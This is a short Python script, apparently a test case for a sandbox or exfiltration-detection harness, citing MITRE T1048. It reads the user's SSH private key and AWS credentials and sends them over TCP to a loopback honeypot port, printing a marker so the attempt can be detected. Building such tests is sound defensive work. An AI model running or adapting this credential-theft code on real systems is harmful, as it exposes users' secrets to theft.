# family: injection
# tries: send the user's SSH key and AWS credentials to a server on the host's loopback over TCP (the honeypot, argv 4)
# source: https://attack.mitre.org/techniques/T1048/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
home, port = sys.argv[2], int(sys.argv[4])
loot = b""
for rel in (".ssh/id_ed25519", ".aws/credentials"):
    try:
        with open(os.path.join(home, rel), "rb") as f:
            loot += f.read()
    except OSError as e:
        print(f"{rel}: {e.strerror}")
if not loot:
    sys.exit(1)
try:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
        s.sendall(loot)
    print(f"sent {len(loot)} bytes over TCP")
except OSError as e:
    print(f"TCP: {e}")
